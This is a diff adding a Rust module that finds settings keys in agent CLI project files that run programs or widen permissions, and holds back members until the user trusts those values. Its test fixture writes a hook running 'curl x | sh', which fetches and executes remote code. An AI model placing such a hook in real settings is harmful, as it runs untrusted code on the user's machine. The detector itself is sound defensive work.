@@ -1,0 +1,270 @@
+//! The agent CLIs' own project settings in a member's folder or workdir
+//! (`.claude/settings.json`, `.claude/settings.local.json`, `.gemini/settings.json`,
+//! `.codex/config.toml`): the CLI reads them by itself, and some of their keys run
+//! programs (hooks, MCP servers, tool commands, helpers) or let the agent act without
+//! asking (permission modes, approval policies). A repository could ship them, so a
+//! member whose folder holds such keys is not run until the user trusts that file, as
+//! for a `chatmd.toml` `command`.
+//!
+//! What is trusted is those keys' values, not the file's bytes: claude-agent-acp writes
+//! the user's own "Always" answers into `settings.local.json` (`permissions.allow`),
+//! which must not take back the trust.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::{Map, Value};
+
+use super::trust::{TrustItem, TrustKey, UntrustedConfig, UserTrust};
+use super::{ConfigProblem, Member};
+
+/// The settings files a CLI reads from the folder it runs in, relative to it.
+pub const SETTINGS_FILES: [&str; 4] = [
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".gemini/settings.json",
+    ".codex/config.toml",
+];
+
+/// The keys of each file that run programs or widen what the agent may do unasked; a
+/// dotted name is a key inside a table.
+fn risky_keys(file: &str) -> &'static [&'static str] {
+    match file {
+        ".claude/settings.json" => &[
+            "hooks",
+            "mcpServers",
+            "enabledMcpjsonServers",
+            "enableAllProjectMcpServers",
+            "env",
+            "apiKeyHelper",
+            "statusLine",
+            "awsAuthRefresh",
+            "awsCredentialExport",
+            "otelHeadersHelper",
+            "permissions.defaultMode",
+            "permissions.allow",
+        ],
+        // Where claude records the user's own "Always" answers: its allow rules are
+        // theirs, the rest is as risky as in settings.json.
+        ".claude/settings.local.json" => &[
+            "hooks",
+            "mcpServers",
+            "enabledMcpjsonServers",
+            "enableAllProjectMcpServers",
+            "env",
+            "apiKeyHelper",
+            "statusLine",
+            "awsAuthRefresh",
+            "awsCredentialExport",
+            "otelHeadersHelper",
+            "permissions.defaultMode",
+        ],
+        ".gemini/settings.json" => &[
+            "hooks",
+            "mcpServers",
+            "tools",
+            "toolDiscoveryCommand",
+            "toolCallCommand",
+            "autoAccept",
+            "security",
+            "general.defaultApprovalMode",
+        ],
+        ".codex/config.toml" => &[
+            "mcp_servers",
+            "approval_policy",
+            "sandbox_mode",
+            "sandbox_workspace_write",
+            "shell_environment_policy",
+            "notify",
+            "hooks",
+            "model_providers",
+            "profile",
+            "profiles",
+        ],
+        _ => &[],
+    }
+}
+
+/// A settings file that sets risky keys: which, and the bytes its trust is recorded
+/// for (those keys' values, in a stable form).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RiskySettings {
+    pub file: PathBuf,
+    /// The keys it sets (`hooks`, `permissions.defaultMode`); `(unreadable)` for a
+    /// file chatmd cannot parse (the CLI may still read it).
+    pub keys: Vec<String>,
+    pub trusted_form: Vec<u8>,
+}
+
+/// The settings files under `folder` that set risky keys.
+pub fn risky_settings(folder: &Path) -> Vec<RiskySettings> {
+    SETTINGS_FILES
+        .iter()
+        .filter_map(|name| risky_in(&folder.join(name), name))
+        .collect()
+}
+
+/// Whether `path` names one of the settings files (for `chatmd trust`).
+pub fn is_agent_settings(path: &Path) -> bool {
+    SETTINGS_FILES.iter().any(|name| path.ends_with(name))
+}
+
+/// The risky keys of the settings file at `path`, when it is one and sets any.
+pub fn risky_file(path: &Path) -> Option<RiskySettings> {
+    let name = SETTINGS_FILES.iter().find(|name| path.ends_with(name))?;
+    risky_in(path, name)
+}
+
+fn risky_in(path: &Path, name: &str) -> Option<RiskySettings> {
+    let bytes = std::fs::read(path).ok()?;
+    let parsed: Option<Value> = if name.ends_with(".toml") {
+        std::str::from_utf8(&bytes)
+            .ok()
+            .and_then(|text| toml::from_str::<toml::Value>(text).ok())
+            .and_then(|value| serde_json::to_value(value).ok())
+    } else {
+        serde_json::from_slice(&bytes).ok()
+    };
+    let Some(top @ Value::Object(_)) = parsed else {
+        // Unreadable to chatmd: the whole file is what would be trusted.
+        return Some(RiskySettings {
+            file: path.to_path_buf(),
+            keys: vec!["(unreadable)".to_owned()],
+            trusted_form: bytes,
+        });
+    };
+    let mut found = Map::new();
+    for key in risky_keys(name) {
+        let value = key
+            .split('.')
+            .try_fold(&top, |v, part| v.get(part))
+            .filter(|v| !v.is_null());
+        if let Some(value) = value {
+            found.insert((*key).to_owned(), value.clone());
+        }
+    }
+    if found.is_empty() {
+        return None;
+    }
+    Some(RiskySettings {
+        file: path.to_path_buf(),
+        keys: found.keys().cloned().collect(),
+        trusted_form: serde_json::to_vec(&Value::Object(found)).unwrap_or_default(),
+    })
+}
+
+/// The settings files of the members' folders and workdirs that wait for trust, as
+/// untrusted configs: the members they concern are not run until then.
+pub fn untrusted_settings(members: &[Member], trust: &UserTrust) -> Vec<UntrustedConfig> {
+    let mut out: Vec<UntrustedConfig> = Vec::new();
+    for member in members {
+        let mut folders = vec![member.folder.as_path()];
+        if member.workdir != member.folder {
+            folders.push(member.workdir.as_path());
+        }
+        for risky in folders.into_iter().flat_map(risky_settings) {
+            if trust.trusts_file(&risky.file, &risky.trusted_form) {
+                continue;
+            }
+            let item = TrustItem {
+                member: member.handle.clone(),
+                key: TrustKey::AgentSettings,
+                range: 0..0,
+                shown: risky.keys.clone(),
+            };
+            match out.iter_mut().find(|c| c.file == risky.file) {
+                Some(config) => config.items.push(item),
+                None => out.push(UntrustedConfig {
+                    file: risky.file,
+                    items: vec![item],
+                }),
+            }
+        }
+    }
+    out
+}
+
+/// The warning `chatmd members` (and the team's problems) show for `config`.
+pub fn problem(config: &UntrustedConfig) -> ConfigProblem {
+    let keys: Vec<&str> = config
+        .items
+        .iter()
+        .flat_map(|i| &i.shown)
+        .map(String::as_str)
+        .collect();
+    let members: Vec<String> = config.members().iter().map(|m| format!("@{m}")).collect();
+    let members = members.join(" and ");
+    ConfigProblem::untrusted(
+        &config.file,
+        0..0,
+        format!(
+            "the agent CLI reads this file by itself, and its {} can run programs or let the \
+             agent act without asking, so {} is not run until you trust it. Review it, then \
+             run `{}`",
+            keys.join(", "),
+            members,
+            super::trust::trust_command(&config.file)
+        ),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use pretty_assertions::assert_eq;
+
+    #[test]
+    fn risky_keys_are_found_and_trusted_by_their_values() {
+        let f = crate::team::temp_tree::TempTree::new();
+        let folder = f.path("ws/bob");
+        f.write(
+            "ws/bob/.claude/settings.json",
+            r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}, "model": "x"}"#,
+        );
+        f.write(
+            "ws/bob/.claude/settings.local.json",
+            r#"{"permissions": {"allow": ["Bash(touch a)"]}}"#,
+        );
+        f.write(
+            "ws/bob/.codex/config.toml",
+            "approval_policy = \"never\"\nmodel = \"x\"\n",
+        );
+        f.write("ws/bob/.gemini/settings.json", "{not json");
+        let found = risky_settings(&folder);
+        let keys: Vec<(String, Vec<String>)> = found
+            .iter()
+            .map(|r| {
+                let name = r.file.strip_prefix(&folder).unwrap().display().to_string();
+                (name, r.keys.clone())
+            })
+            .collect();
+        let row = |name: &str, keys: &[&str]| {
+            (
+                name.to_owned(),
+                keys.iter().map(|k| (*k).to_owned()).collect::<Vec<_>>(),
+            )
+        };
+        assert_eq!(
+            keys,
+            [
+                row(".claude/settings.json", &["hooks"]),
+                row(".gemini/settings.json", &["(unreadable)"]),
+                row(".codex/config.toml", &["approval_policy"]),
+            ]
+        );
+        // Trusted by the risky values: another key changing keeps the trust.
+        let user = f.user();
+        user.trust_file(&found[0].file, &found[0].trusted_form)
+            .expect("trust");
+        f.write(
+            "ws/bob/.claude/settings.json",
+            r#"{"model": "y", "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}}"#,
+        );
+        let again = risky_file(&found[0].file).expect("still risky");
+        assert!(
+            user.load_trust()
+                .trusts_file(&again.file, &again.trusted_form)
+        );
+        assert!(is_agent_settings(&folder.join(".codex/config.toml")));
+        assert!(!is_agent_settings(&folder.join("config.toml")));
+    }
+}
